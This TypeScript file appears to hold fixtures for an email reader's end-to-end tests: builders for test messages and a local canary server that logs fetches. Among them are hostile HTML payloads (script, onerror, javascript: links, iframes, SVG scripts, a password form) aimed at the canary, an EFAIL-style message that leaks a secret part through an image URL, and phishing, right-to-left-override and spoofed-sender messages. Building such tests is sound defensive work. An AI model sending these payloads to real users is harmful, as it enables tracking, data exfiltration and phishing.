/**
 * Messages and a canary web server for the reader's end-to-end tests. The canary answers every request
 * with a one-pixel PNG and remembers its path, so a test can prove nothing was fetched (or that an
 * allowed remote image was).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { TEST_DOMAIN } from '../servers/postfix';

/** A plain-text test message: what it says, and the headers a test varies. */
export interface PlainMessage {
  readonly from: string;
  readonly to: string;
  readonly subject: string;
  readonly body: string;
  /** The Date header; the time of the call when absent. */
  readonly date?: string;
  /** The Message-ID, without its brackets; a unique one when absent. */
  readonly id?: string;
  /** Further header lines (`Cc: …`, `References: …`), written after To. */
  readonly headers?: readonly string[];
  /** Writes the subject as an RFC 2047 encoded word (UTF-8, base64) instead of raw UTF-8. */
  readonly encodedSubject?: boolean;
}

let plainMessages = 0;

/**
 * A plain-text UTF-8 message with CRLF lines, as a server hands it over, with a Message-ID of its own:
 * the one builder the window's tests share instead of a few lines each.
 */
export function plainMessage(message: PlainMessage): Buffer {
  plainMessages += 1;
  const subject = message.encodedSubject === true ? `=?UTF-8?B?${Buffer.from(message.subject, 'utf8').toString('base64')}?=` : message.subject;
  const id = message.id ?? `${Buffer.from(message.subject, 'utf8').toString('hex').slice(0, 24)}.${process.pid}.${plainMessages}@example.test`;
  return Buffer.from(
    [
      `From: ${message.from}`,
      `To: ${message.to}`,
      ...(message.headers ?? []),
      `Subject: ${subject}`,
      `Date: ${message.date ?? new Date().toUTCString()}`,
      `Message-ID: <${id}>`,
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      message.body,
      '',
    ].join('\r\n'),
    'utf8',
  );
}

/** A one-pixel PNG. */
export const PIXEL_PNG_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** The canary: every request it saw, by path. */
export interface Canary {
  readonly origin: string;
  readonly requests: string[];
  stop(): Promise<void>;
}

/** Starts the canary on 127.0.0.1 on a free port. */
export async function startCanary(): Promise<Canary> {
  const requests: string[] = [];
  const pixel = Buffer.from(PIXEL_PNG_BASE64, 'base64');
  const server = http.createServer((request, response) => {
    requests.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
    response.end(pixel);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    requests,
    stop: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

let counter = 0;

function headers(subject: string, from: string, extra: readonly string[] = []): string {
  counter += 1;
  return [
    `From: ${from}`,
    `To: Alice Example <alice@${TEST_DOMAIN}>`,
    `Subject: ${subject}`,
    `Date: ${new Date(Date.UTC(2024, 4, 1, 9, counter)).toUTCString()}`,
    `Message-ID: <reader-${counter}-${Date.now()}@${TEST_DOMAIN}>`,
    'MIME-Version: 1.0',
    ...extra,
  ].join('\r\n');
}

/** An HTML message with every trick the reader must defuse, each pointing at the canary. */
export function hostileMessage(canary: string): string {
  const html = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${canary}/refresh">
<base href="${canary}/base/">
<link rel="stylesheet" href="${canary}/link.css">
<style>@import url(${canary}/import.css); @import "${canary}/import2.css";
@font-face { font-family: Canary; src: url(${canary}/font.woff) }
.bg { background-image: url('${canary}/css-background.png'); color: rgb(10, 20, 30) }</style>
<script>document.title = 'pwned'; window.top.name = 'pwned'; new Image().src = '${canary}/script-ran';</script>
</head><body background="${canary}/body-background.png">
<h1 class="bg">Hostile content</h1>
<img id="remote" src="${canary}/remote-image.png" alt="remote">
<img srcset="${canary}/srcset.png 1x" alt="srcset">
<img src="x" onerror="new Image().src='${canary}/onerror'" alt="broken">
<body onload="new Image().src='${canary}/onload'">
<a id="js" href="javascript:new Image().src='${canary}/javascript-link'">click me</a>
<iframe src="${canary}/iframe"></iframe>
<object data="${canary}/object"></object>
<embed src="${canary}/embed">
<svg xmlns="http://www.w3.org/2000/svg"><script>new Image().src='${canary}/svg-script'</script>
<foreignObject><iframe src="${canary}/foreign-object"></iframe></foreignObject><image href="${canary}/svg-image"/></svg>
<table background="${canary}/table-background.png"><tr><td style="background:url(${canary}/inline-style.png)">cell</td></tr></table>
<form action="${canary}/form" method="post"><input name="password" value="secret"><button id="submit">Send</button></form>
<p>Safe paragraph text.</p>
</body></html>`;
  return `${headers('Hostile HTML', `News <news@${TEST_DOMAIN}>`, ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit'])}\r\n\r\n${html.replace(/\n/g, '\r\n')}\r\n`;
}

/** A message whose display name is another address and whose replies go elsewhere. */
export function impostorMessage(): string {
  return `${headers('Verify your account', '"paypal@paypal.com" <security@evil.test>', [
    `Reply-To: <collect@evil.test>`,
    'Content-Type: text/plain; charset=utf-8',
  ])}\r\n\r\nPlease confirm your password at https://evil.test/login today.\r\n`;
}

/** An HTML message with an inline image referenced by cid:. */
export function inlineImageMessage(): string {
  const boundary = 'related-boundary';
  return [
    headers('Inline picture', `Bob Example <bob@${TEST_DOMAIN}>`, [`Content-Type: multipart/related; boundary="${boundary}"`]),
    '',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Here is the picture:</p><img id="inline" src="cid:dot@mailbag.test" alt="dot" width="40" height="40">',
    `--${boundary}`,
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <dot@mailbag.test>',
    'Content-Disposition: inline; filename="dot.png"',
    '',
    PIXEL_PNG_BASE64,
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

/** A plain-text message with quotes, a link and one binary attachment. */
export function attachmentMessage(bytes: Buffer): string {
  const boundary = 'mixed-boundary';
  const encoded = bytes.toString('base64').replace(/.{76}/g, '$&\r\n');
  return [
    headers('Quarterly report', `Carol Example <carol@${TEST_DOMAIN}>`, [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello Alice,',
    '',
    'the report is attached; the summary is at https://example.test/report.',
    '',
    '> Could you send the numbers?',
    '>> When you have them.',
    `--${boundary}`,
    'Content-Type: application/octet-stream',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename="report.bin"',
    '',
    encoded,
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

/** Text that only the middle part of the EFAIL message holds. */
export const EFAIL_SECRET = 'SECRETTOKEN4711';

/**
 * The EFAIL trick: HTML part 1 opens an image URL that a joined document would close only after part
 * 2 (the secret) with part 3. Part 1 also holds an honest remote image, so the reader offers to load
 * remote content. A plain part and an attached HTML page follow: both must be shown for what they are.
 */
export function efailMessage(canary: string): string {
  const boundary = 'efail-boundary';
  return [
    headers('Secret parts', `Mallory <mallory@${TEST_DOMAIN}>`, [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
    '',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>Part one.</p><img alt="honest" src="${canary}/honest.png"><img src="${canary}/leak?d=`,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>${EFAIL_SECRET} in part two</p>`,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    '">Part three.',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Plain part four.',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Disposition: attachment; filename="page.html"',
    '',
    '<p>Attached page, not the body.</p>',
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

/** The last line of the tall message. */
export const TALL_LAST_LINE = 'The very last line of the tall message.';

/** A plain-text message several screens tall at the small window size. */
export function tallMessage(lines: number): string {
  const body = Array.from({ length: lines }, (_unused, index) => `Line ${index + 1} of a long letter.`);
  return `${headers('Tall letter', `Dora Example <dora@${TEST_DOMAIN}>`, ['Content-Type: text/plain; charset=utf-8'])}\r\n\r\n${[...body, TALL_LAST_LINE].join('\r\n')}\r\n`;
}

/** A long script name: a narrow list must cut it before ".js", never through it. */
export const LONG_SCRIPT_NAME = 'report-2026-run-of-the-quarterly-numbers-for-every-branch-and-every-region-of-the-company.js';

/** Attachments whose names try to disguise their type, name a Windows device, or outgrow the list. */
export function trickyFilesMessage(): string {
  const boundary = 'files-boundary';
  const program = Buffer.from('MZ\x90\x00pretend program', 'latin1').toString('base64');
  const attachment = (disposition: string, type: string, content: string): string[] => [
    `--${boundary}`,
    `Content-Type: ${type}`,
    'Content-Transfer-Encoding: base64',
    `Content-Disposition: attachment; ${disposition}`,
    '',
    content,
  ];
  return [
    headers('Tricky files', `Eve Example <eve@${TEST_DOMAIN}>`, [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Three files.',
    ...attachment("filename*=utf-8''invoice%E2%80%AEfdp.exe", 'application/octet-stream', program),
    ...attachment(`filename="${LONG_SCRIPT_NAME}"`, 'application/octet-stream', Buffer.from('alert(1)').toString('base64')),
    ...attachment('filename="CON.txt"', 'text/plain', Buffer.from('device').toString('base64')),
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

/** The right-to-left override: everything after it, to the end of its embedding, shows reversed. */
export const RIGHT_TO_LEFT_OVERRIDE = '\u202E';

/** A sender name that ends in a right-to-left override, to flip the real address shown after it. */
export function bidiMessage(): string {
  const encoded = (text: string): string => `=?utf-8?b?${Buffer.from(text).toString('base64')}?=`;
  return [
    headers(encoded(`Flipped ${RIGHT_TO_LEFT_OVERRIDE}tnemetats`), `${encoded(`Bank Security${RIGHT_TO_LEFT_OVERRIDE}`)} <security@live.example>`, [
      'Content-Type: text/plain; charset=utf-8',
    ]),
    '',
    'Your statement is ready.',
    '',
  ].join('\r\n');
}

/** A Japanese subject: its words are written without spaces. */
export const JAPANESE_SUBJECT = '本日の会議資料を送ります';

/** A message in Japanese, to be found by a word from the middle of its subject. */
export function japaneseMessage(): string {
  return [
    headers(`=?utf-8?b?${Buffer.from(JAPANESE_SUBJECT).toString('base64')}?=`, `Tanaka <tanaka@${TEST_DOMAIN}>`, ['Content-Type: text/plain; charset=utf-8']),
    '',
    'よろしくお願いいたします。',
    '',
  ].join('\r\n');
}

/** A local part that a decoder would turn into "a", NUL, "b": as an address it is plain text. */
export const ENCODED_WORD_ADDRESS = `=?utf-8?q?a=00b?=@${TEST_DOMAIN}`;

/** A From whose address is written like an encoded word, which decoding would break. */
export function encodedWordAddressMessage(): string {
  return `${headers('Encoded address', ENCODED_WORD_ADDRESS, ['Content-Type: text/plain; charset=utf-8'])}\r\n\r\nWho sent this?\r\n`;
}

/** An encoded word that decodes to an address. */
const ADDRESS_LIKE_NAME = `=?utf-8?b?${Buffer.from('ceo@bank.example').toString('base64')}?=`;

/**
 * A From of only an address-like encoded word, written as an empty group so that no server completes
 * it into an address: the only address there is is the envelope sender's (Return-Path).
 */
export function addressLikeNameMessage(): string {
  return `${headers('Name without address', `${ADDRESS_LIKE_NAME}:;`, ['Content-Type: text/plain; charset=utf-8'])}\r\n\r\nWire the money today.\r\n`;
}

/** Inline image parts of the cid-heavy message, and how many references its HTML makes to them. */
export const CID_IMAGES = 800;
export const CID_REFERENCES = 2_000;

/** An HTML message that shows hundreds of inline images thousands of times through cid: URLs. */
export function manyCidMessage(): string {
  const boundary = 'cid-boundary';
  const images = Array.from(
    { length: CID_REFERENCES },
    (_unused, index) => `<img alt="i${index}" src="cid:img${index % CID_IMAGES}@mailbag.test" width="4" height="4">`,
  );
  const lines = [
    headers('Many pictures', `Gallery <gallery@${TEST_DOMAIN}>`, [`Content-Type: multipart/related; boundary="${boundary}"`]),
    '',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    // One image a line: mail lines stay under 998 characters (RFC 5322 §2.1.1).
    `<p>Text before the pictures.</p><p>${images.join('\r\n')}</p><p>Text after the pictures.</p>`,
  ];
  for (let index = 0; index < CID_IMAGES; index += 1) {
    lines.push(`--${boundary}`, 'Content-Type: image/png', 'Content-Transfer-Encoding: base64', `Content-ID: <img${index}@mailbag.test>`, '', PIXEL_PNG_BASE64);
  }
  lines.push(`--${boundary}--`, '');
  return lines.join('\r\n');
}

/** Parts, Cc addresses and Subject length of the huge message. */
export const HUGE_PARTS = 3_000;
export const HUGE_CC = 20_000;
const HUGE_SUBJECT_WORDS = 150_000;

/**
 * A message past every limit: a 1 MB Subject line, 20,000 Cc addresses and 3,000 sibling parts. The
 * Postfix that delivers it needs {@link HUGE_MESSAGE_POSTFIX} (its defaults cut such headers).
 */
export function hugeMessage(): string {
  const boundary = 'huge-boundary';
  const cc = Array.from({ length: HUGE_CC }, (_unused, index) => `cc${index}@${TEST_DOMAIN}`).join(',\r\n ');
  const lines = [
    headers(`Absurd ${'Absurd '.repeat(HUGE_SUBJECT_WORDS - 1)}`, `Huge <huge@${TEST_DOMAIN}>`, [
      `Cc: ${cc}`,
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
    ]),
    '',
  ];
  for (let index = 1; index <= HUGE_PARTS; index += 1)
    lines.push(`--${boundary}`, 'Content-Type: text/plain; charset=utf-8', '', `Part ${index} of the huge message.`);
  lines.push(`--${boundary}--`, '');
  return lines.join('\r\n');
}

/** Postfix settings that let the huge message through whole. */
export const HUGE_MESSAGE_POSTFIX = {
  messageSizeLimit: 10_000_000,
  extraMainConfig: 'header_size_limit = 4096000\nline_length_limit = 2048000\nheader_address_token_limit = 1000000\n',
} as const;
